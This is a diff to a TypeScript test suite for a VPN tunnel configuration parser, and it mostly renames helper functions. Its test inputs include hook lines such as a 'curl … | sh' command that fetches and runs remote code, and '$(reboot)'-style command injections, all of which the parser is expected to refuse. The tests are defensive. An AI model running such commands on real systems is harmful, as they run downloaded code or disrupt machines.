@@ -5,12 +5,12 @@ import { Secret } from '../../../src/lib/secret.ts';
 import type { IssuedTunnel } from '../../../src/tunnel/issued.ts';
 import { parseIssuedTunnel } from '../../../src/tunnel/parse.ts';
 import { assertLaw } from '../law.ts';
-import { clientKeys, proxyPublicKey, toIssued, toIssuedText } from './issued-fixture.ts';
+import { clientKeys, createIssued, proxyPublicKey, renderIssuedText } from './issued-fixture.ts';
 
 const parse = (text: string, fields: Partial<IssuedTunnel> = {}, isServiceOnLoopback = false) =>
-  parseIssuedTunnel(toIssued(text, fields), { isServiceOnLoopback });
+  parseIssuedTunnel(createIssued(text, fields), { isServiceOnLoopback });
 
-function toRefusal(text: string, fields: Partial<IssuedTunnel> = {}): string {
+function catchRefusal(text: string, fields: Partial<IssuedTunnel> = {}): string {
   try {
     parse(text, fields);
   } catch (error) {
@@ -21,13 +21,13 @@ function toRefusal(text: string, fields: Partial<IssuedTunnel> = {}): string {
   throw new Error('it was accepted');
 }
 
-const withLine = (line: string, after = 'DNS') => toIssuedText({ [after]: `DNS = 1.1.1.1\n${line}` });
-const inPeer = (line: string) => `${toIssuedText()}\n${line}`;
+const withLine = (line: string, after = 'DNS') => renderIssuedText({ [after]: `DNS = 1.1.1.1\n${line}` });
+const inPeer = (line: string) => `${renderIssuedText()}\n${line}`;
 const other = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaA=';
 
 describe('a text', () => {
   test('as production issues it becomes a tunnel', () => {
-    expect(parse(toIssuedText())).toEqual({
+    expect(parse(renderIssuedText())).toEqual({
       privateKey: new Secret(clientKeys.privateKey),
       publicKey: clientKeys.publicKey,
       addresses: [{ family: 4, address: '10.23.45.67' }],
@@ -43,26 +43,29 @@ describe('a text', () => {
   });
 
   test.each([
-    ['with Windows line ends', toIssuedText().replaceAll('\n', '\r\n')],
-    ['with a last line end', `${toIssuedText()}\n`],
-    ['with comments', `# issued\n${toIssuedText({ DNS: 'DNS = 1.1.1.1 # a resolver; $(reboot)' })}\n# PostUp = reboot`],
-    ['without spaces', toIssuedText().replaceAll(' = ', '=')],
-    ['with tabs and blanks', toIssuedText().replaceAll(' = ', ' \t=\t ').replaceAll('\n', '  \n\t')],
-    ['with keys in any case', toIssuedText().replace('PrivateKey', 'privatekey').replace('[Peer]', '[PEER]')],
-    ['without DNS', toIssuedText({ DNS: undefined })],
+    ['with Windows line ends', renderIssuedText().replaceAll('\n', '\r\n')],
+    ['with a last line end', `${renderIssuedText()}\n`],
+    [
+      'with comments',
+      `# issued\n${renderIssuedText({ DNS: 'DNS = 1.1.1.1 # a resolver; $(reboot)' })}\n# PostUp = reboot`,
+    ],
+    ['without spaces', renderIssuedText().replaceAll(' = ', '=')],
+    ['with tabs and blanks', renderIssuedText().replaceAll(' = ', ' \t=\t ').replaceAll('\n', '  \n\t')],
+    ['with keys in any case', renderIssuedText().replace('PrivateKey', 'privatekey').replace('[Peer]', '[PEER]')],
+    ['without DNS', renderIssuedText({ DNS: undefined })],
     ['with a listening port', withLine('ListenPort = 51820')],
-    ['with the peer first', toIssuedText().split('\n\n').reverse().join('\n')],
-    ['with a wide address, of which one is taken', toIssuedText({ Address: 'Address = 10.23.45.67/8' })],
-    ['with a bare address', toIssuedText({ Address: 'Address = 10.23.45.67' })],
-    ['with an address said twice', toIssuedText({ Address: 'Address = 10.23.45.67/32, 10.23.45.67' })],
-    ['with 32 addresses', toIssuedText({ Address: `Address = ${Array(32).fill('10.23.45.67').join(',')}` })],
-    ['of just 16 KiB', `${toIssuedText()}\n#`.padEnd(16 * 1024, 'x')],
+    ['with the peer first', renderIssuedText().split('\n\n').reverse().join('\n')],
+    ['with a wide address, of which one is taken', renderIssuedText({ Address: 'Address = 10.23.45.67/8' })],
+    ['with a bare address', renderIssuedText({ Address: 'Address = 10.23.45.67' })],
+    ['with an address said twice', renderIssuedText({ Address: 'Address = 10.23.45.67/32, 10.23.45.67' })],
+    ['with 32 addresses', renderIssuedText({ Address: `Address = ${Array(32).fill('10.23.45.67').join(',')}` })],
+    ['of just 16 KiB', `${renderIssuedText()}\n#`.padEnd(16 * 1024, 'x')],
   ])('%s means the same', (_, text) => {
-    expect(parse(text)).toEqual(parse(toIssuedText()));
+    expect(parse(text)).toEqual(parse(renderIssuedText()));
   });
 
   test('with everything that may be given is read', () => {
-    const text = toIssuedText({
+    const text = renderIssuedText({
       Address: 'Address = 10.23.45.67/32, FD00:0:0::1/64\nAddress = 100.64.0.9\nMTU = 1280',
       Endpoint: 'Endpoint = [2001:db8::1]:1',
       AllowedIPs: 'AllowedIPs = 0.0.0.0/0, ::/0',
@@ -82,8 +85,8 @@ describe('a text', () => {
   test.each([['localhost:51820'], ['127.0.0.1:51820'], ['[::1]:51820'], ['[::ffff:127.0.0.1]:51820']])(
     'may lead to %s only where the service is there too',
     (endpoint) => {
-      const text = toIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
-      expect(toRefusal(text)).toMatch(/Endpoint/);
+      const text = renderIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
+      expect(catchRefusal(text)).toMatch(/Endpoint/);
       if (!endpoint.includes('ffff')) expect(parse(text, {}, true).peer.endpoint.port).toBe(51_820);
     },
   );
@@ -101,7 +104,7 @@ test.each<[string, string, object]>([
   ],
 ])('%s is taken', (_, line, expected) => {
   const key = line.startsWith('MTU') ? 'DNS' : (line.split(' ')[0] ?? '');
-  expect(parse(toIssuedText({ [key]: line }))).toMatchObject(expected);
+  expect(parse(renderIssuedText({ [key]: line }))).toMatchObject(expected);
 });
 
 describe('a text is refused', () => {
@@ -110,25 +113,25 @@ describe('a text is refused', () => {
   test.each(hooks.flatMap((hook) => [hook, hook.toLowerCase(), hook.toUpperCase()]))(
     'that holds %s, in either section',
     (hook) => {
-      expect(toRefusal(withLine(`${hook} = off`))).toContain('would change this device');
-      expect(toRefusal(inPeer(`${hook}=true`))).toContain(hook);
-      expect(toRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain('curl');
+      expect(catchRefusal(withLine(`${hook} = off`))).toContain('would change this device');
+      expect(catchRefusal(inPeer(`${hook}=true`))).toContain(hook);
+      expect(catchRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain('curl');
     },
   );
 
   test.each<[string, string, string]>([
     ['an empty text', '', 'no [Interface]'],
     ['nothing but comments', '# one\n# two', 'no [Interface]'],
-    ['no [Interface]', toIssuedText().split('\n\n')[1] ?? '', 'no [Interface]'],
-    ['no [Peer]', toIssuedText().split('\n\n')[0] ?? '', 'no [Peer]'],
-    ['[Interface] twice', `${toIssuedText()}\n[Interface]`, 'more than one [Interface]'],
-    ['[Peer] twice', `${toIssuedText()}\n[Peer]\nPublicKey = ${other}`, 'more than one [Peer]'],
-    ['[peer] twice in another case', `${toIssuedText()}\n[peer]`, 'more than one [Peer]'],
-    ['another section', `${toIssuedText()}\n[Evil]`, 'neither [Interface] nor [Peer]'],
-    ['a line before its first section', `MTU = 1400\n${toIssuedText()}`, 'before its first section'],
-    ['half a section', toIssuedText({ '[Peer]': '[Peer' }), 'not KEY = VALUE'],
-    ['words before a section', toIssuedText({ '[Peer]': 'x [Peer]' }), 'not KEY = VALUE'],
-    ['words behind a section', toIssuedText({ '[Peer]': '[Peer] x' }), 'not KEY = VALUE'],
+    ['no [Interface]', renderIssuedText().split('\n\n')[1] ?? '', 'no [Interface]'],
+    ['no [Peer]', renderIssuedText().split('\n\n')[0] ?? '', 'no [Peer]'],
+    ['[Interface] twice', `${renderIssuedText()}\n[Interface]`, 'more than one [Interface]'],
+    ['[Peer] twice', `${renderIssuedText()}\n[Peer]\nPublicKey = ${other}`, 'more than one [Peer]'],
+    ['[peer] twice in another case', `${renderIssuedText()}\n[peer]`, 'more than one [Peer]'],
+    ['another section', `${renderIssuedText()}\n[Evil]`, 'neither [Interface] nor [Peer]'],
+    ['a line before its first section', `MTU = 1400\n${renderIssuedText()}`, 'before its first section'],
+    ['half a section', renderIssuedText({ '[Peer]': '[Peer' }), 'not KEY = VALUE'],
+    ['words before a section', renderIssuedText({ '[Peer]': 'x [Peer]' }), 'not KEY = VALUE'],
+    ['words behind a section', renderIssuedText({ '[Peer]': '[Peer] x' }), 'not KEY = VALUE'],
     ['a line that is none', withLine('reboot'), 'not KEY = VALUE'],
     ['a key of two words', withLine('Post Up = x'), 'not KEY = VALUE'],
     ['a lone carriage return', withLine('MTU = 1400\rPostUp = x'), 'not KEY = VALUE'],
@@ -141,8 +144,8 @@ describe('a text is refused', () => {
     ['an escape', withLine('# \u001b[2J'), 'characters that no'],
     ['a line separator', withLine('# \u2028PostUp = x'), 'characters that no'],
     ['a letter that only looks Latin', withLine('# \u0430'), 'characters that no'],
-    ['16 KiB and one', `${toIssuedText()}\n#${'x'.repeat(16 * 1024)}`, '16 KiB'],
-    ['megabytes', `${toIssuedText()}\n${'# x\n'.repeat(2 ** 20)}`, '16 KiB'],
+    ['16 KiB and one', `${renderIssuedText()}\n#${'x'.repeat(16 * 1024)}`, '16 KiB'],
+    ['megabytes', `${renderIssuedText()}\n${'# x\n'.repeat(2 ** 20)}`, '16 KiB'],
     ...[
       '$(reboot)',
       '`reboot`',
@@ -162,7 +165,7 @@ describe('a text is refused', () => {
       'characters that no',
     ]),
   ])('with %s', (_, text, why) => {
-    expect(toRefusal(text)).toContain(why);
+    expect(catchRefusal(text)).toContain(why);
   });
 
   test.each<[string, string | undefined, string]>([
@@ -268,7 +271,7 @@ describe('a text is refused', () => {
     ),
     ['AllowedIPs', `AllowedIPs = ${Array(33).fill('::/0').join(',')}`, 'more than 32'],
   ])('whose %s is %j', (key, line, why) => {
-    const message = toRefusal(toIssuedText({ [key]: line }));
+    const message = catchRefusal(renderIssuedText({ [key]: line }));
     expect(message).toContain(why);
     expect(message).not.toContain(clientKeys.privateKey);
     expect(message).not.toContain(other);
@@ -283,18 +286,20 @@ describe('a text is refused', () => {
     ['wg_proxy_port', { proxyPort: 51_821 }],
     ['proxy_host', { proxyHost: 'other.example.net' }],
   ])('that does not agree with %s beside it', (field, fields) => {
-    const message = toRefusal(toIssuedText(), fields);
+    const message = catchRefusal(renderIssuedText(), fields);
     expect(message).toContain(field);
     expect(message).not.toContain(other);
   });
 
   test('with every field that it does not agree with', () => {
-    expect(toRefusal(toIssuedText(), { publicKey: other, proxyPort: 1 })).toMatch(/client_public_key, wg_proxy_port/);
+    expect(catchRefusal(renderIssuedText(), { publicKey: other, proxyPort: 1 })).toMatch(
+      /client_public_key, wg_proxy_port/,
+    );
   });
 
   test('without showing a key that stands where the name of a key should', () => {
     const letters = 'A'.repeat(42).concat('Q');
-    expect(toRefusal(withLine(`${letters}=`))).not.toContain('A'.repeat(21));
+    expect(catchRefusal(withLine(`${letters}=`))).not.toContain('A'.repeat(21));
   });
 });
 
@@ -304,22 +309,22 @@ test.each<[string, Partial<IssuedTunnel>]>([
   ['an address with its prefix length', { address: '10.23.45.67/32' }],
   ['the proxy', { proxyHost: 'Proxy.Example.NET.', proxyPort: 51_820 }],
 ])('fields that agree are no obstacle: %s', (_, fields) => {
-  expect(parse(toIssuedText(), fields).addresses).toHaveLength(1);
+  expect(parse(renderIssuedText(), fields).addresses).toHaveLength(1);
 });
 
 describe('a proxy host beside the text', () => {
-  const text = toIssuedText({ Endpoint: 'Endpoint = [2001:db8::1]:51820' });
+  const text = renderIssuedText({ Endpoint: 'Endpoint = [2001:db8::1]:51820' });
 
   test.each(['2001:db8::1', '[2001:db8::1]', '2001:DB8::1'])('is the same as %s', (proxyHost) => {
     expect(parse(text, { proxyHost }).peer.endpoint.host).toBe('2001:db8::1');
   });
 
   test.each(['x[2001:db8::1]', '[2001:db8::1]x', '2001:db8::2', ''])('is not %j', (proxyHost) => {
-    expect(toRefusal(text, { proxyHost })).toContain('proxy_host');
+    expect(catchRefusal(text, { proxyHost })).toContain('proxy_host');
   });
 
   test('is compared with one of several addresses', () => {
-    const two = toIssuedText({ Address: 'Address = 10.23.45.67, 10.23.45.68' });
+    const two = renderIssuedText({ Address: 'Address = 10.23.45.67, 10.23.45.68' });
     expect(parse(two, { address: '10.23.45.68/32' }).addresses).toHaveLength(2);
   });
 });
@@ -346,8 +351,8 @@ describe('whatever the service sends', () => {
     fc.string({ unit: 'binary', maxLength: 300 }),
     fc.array(words, { maxLength: 40 }).map((parts) => parts.join('')),
     fc
-      .record({ at: fc.nat(toIssuedText().length), cut: fc.nat(30), insert: fc.oneof(fc.string(), words) })
-      .map(({ at, cut, insert }) => toIssuedText().slice(0, at) + insert + toIssuedText().slice(at + cut)),
+      .record({ at: fc.nat(renderIssuedText().length), cut: fc.nat(30), insert: fc.oneof(fc.string(), words) })
+      .map(({ at, cut, insert }) => renderIssuedText().slice(0, at) + insert + renderIssuedText().slice(at + cut)),
   );
 
   test('is refused in words of ours, or is a tunnel with keys, private addresses and prefixes', () => {
